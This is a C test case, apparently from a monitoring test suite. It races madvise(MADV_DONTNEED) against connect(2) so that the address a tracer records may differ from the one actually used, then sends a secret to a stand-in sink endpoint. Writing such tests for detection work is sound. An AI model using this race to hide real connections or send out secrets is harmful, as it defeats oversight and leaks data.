// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: As absent_twice, with the address of connect(2): a thread keeps dropping its page.
 * Known from: madvise(2) with MADV_DONTNEED as the cheap half of a page-fault race.
 * First: connect at entry and exit; an address not read at all is counted
 * Second: the cgroup hook's copy of the address; the sinkhole's record
 */
#include "trick.h"
#include <pthread.h>
#include <sys/mman.h>

static void *page;

static void *drop(void *unused)
{
	for (;;)
		madvise(page, 4096, MADV_DONTNEED);
	return unused;
}

int main(void)
{
	struct sockaddr_in to = sink(8080);
	int file = open("/tmp/page", O_RDWR | O_CREAT, 0600), fd = socket(AF_INET, SOCK_STREAM, 0);
	pthread_t thread;

	if (write(file, &to, sizeof(to)) != sizeof(to))
		err(1, "write");
	page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
	pthread_create(&thread, NULL, drop, NULL);
	if (connect(fd, page, sizeof(to)))
		err(1, "connect");
	dprintf(fd, "%s", secret());
	finish(fd);
	performed();
}
